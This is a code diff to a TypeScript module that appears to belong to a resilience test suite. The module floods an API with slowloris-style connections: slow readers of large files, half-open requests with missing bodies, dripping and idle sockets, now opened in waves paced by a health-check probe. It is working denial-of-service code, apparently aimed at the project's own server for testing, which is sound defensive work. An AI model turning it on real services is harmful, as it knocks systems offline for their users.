@@ -1,6 +1,5 @@
 import { once } from 'node:events'
 import type { Socket } from 'node:net'
-import { setTimeout as sleep } from 'node:timers/promises'
 import type { Attack, Target } from './attack.ts'
 import {
   firstStatus,
@@ -14,35 +13,40 @@ import { upgradeRequest } from './upgrade-request.ts'
 import { LARGE_FILE } from './web-folder.ts'
 
 const IDLE = 1_000
-const DRIPPING = 200
-const HALF_OPEN = 200
-const SLOW_READERS = 100
+const DRIPPING = 100
+const HALF_OPEN = 100
+const SLOW_READERS = 30
 /** Files that each slow reader asks for at once. */
 const FILES_EACH = 4
 const SILENT_SOCKETS = 20
 const BALANCE_PUSHES = 400
 const DRIP_EVERY_MS = 1_000
 
-/** More at once would wait in the kernel's queue, which drops anybody's. */
-const WAVE = 50
-const WAVE_EVERY_MS = 100
+/**
+ * Connections that wait at once to be accepted. Node takes one in each turn of
+ * its event loop, so that who comes behind many waits long: what is attacked
+ * here is what connections hold, not how fast they are taken.
+ */
+const WAVE = 20
 
 /** Connections that cost the API something and the attacker next to nothing. */
 export const floodConnections: Attack = async (target, signal) => {
   const { port } = target
   const answers = await pushToSilentSockets(target, signal)
-  const sockets = [
-    ...(await openMany(SLOW_READERS, () => saying(port, MANY_FILES).pause())),
-    ...(await openMany(HALF_OPEN, () => saying(port, HALF_REQUEST).resume())),
-    ...(await openMany(DRIPPING, () => dripping(port, signal))),
-    ...(await openMany(IDLE, () => openConnection(port).resume())),
-  ]
+  const sockets = await openInWaves(target, signal, [
+    ...times(HALF_OPEN, () => saying(port, HALF_REQUEST).resume()),
+    ...times(DRIPPING, () => dripping(port, signal)),
+    ...times(SLOW_READERS, () => saying(port, MANY_FILES).pause()),
+    ...times(IDLE, () => openConnection(port).resume()),
+  ])
   if (!signal.aborted) await once(signal, 'abort')
   return tallyOf([...answers, ...sockets.map(endOf)])
 }
 
 const GET_FILE = requestText({ method: 'GET', path: LARGE_FILE })
 const MANY_FILES = GET_FILE.repeat(FILES_EACH)
+
+const HEALTH_CHECK = requestText({ method: 'GET', path: '/healthz' })
 
 /** A request whose body never comes. */
 const HALF_REQUEST = requestText({
@@ -51,12 +55,24 @@ const HALF_REQUEST = requestText({
   body: JSON.stringify({ username: 'u', password: 'p' }),
 }).slice(0, -1)
 
-async function openMany(count: number, open: () => Socket): Promise<Socket[]> {
+function times(count: number, open: () => Socket): (() => Socket)[] {
+  return Array.from({ length: count }, () => open)
+}
+
+/** Opens connections no faster than the API accepts them. */
+async function openInWaves(
+  { port }: Target,
+  signal: AbortSignal,
+  connections: readonly (() => Socket)[],
+): Promise<Socket[]> {
   const sockets: Socket[] = []
-  while (sockets.length < count) {
-    const size = Math.min(WAVE, count - sockets.length)
-    sockets.push(...Array.from({ length: size }, open))
-    await sleep(WAVE_EVERY_MS)
+  while (sockets.length < connections.length && !signal.aborted) {
+    const wave = connections.slice(sockets.length, sockets.length + WAVE)
+    sockets.push(...wave.map((open) => open()))
+    // It is accepted behind them: its answer, or its end, comes after that.
+    const last = saying(port, HEALTH_CHECK)
+    await firstStatus(last, signal)
+    last.destroy()
   }
   return sockets
 }
